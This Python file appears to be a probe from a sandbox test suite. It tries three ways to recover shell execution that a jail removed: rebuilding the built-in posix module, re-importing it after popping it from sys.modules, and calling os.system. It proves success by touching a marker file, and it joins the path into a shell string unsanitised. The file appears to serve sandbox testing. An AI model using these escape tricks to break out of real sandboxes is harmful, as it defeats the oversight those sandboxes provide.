# proof: mark
# behind: jail
# Gets the functions back that the sandbox took away, from a new copy of their module.
import sys

from routes import first


def fresh_posix(path):
    import _frozen_importlib
    import _imp

    spec = _frozen_importlib.ModuleSpec("posix", None, origin="built-in")
    posix = _imp.create_builtin(spec)
    return posix.system("/usr/bin/touch " + path) == 0


def forgotten_posix(path):
    before = sys.modules.pop("posix")
    import posix

    sys.modules["posix"] = before
    return posix.system("/usr/bin/touch " + path) == 0


def from_os(path):
    import os

    return os.system("/usr/bin/touch " + path) == 0


def attempt(input, caps):
    path = input["mark"]
    return first(lambda: fresh_posix(path), lambda: forgotten_posix(path), lambda: from_os(path))
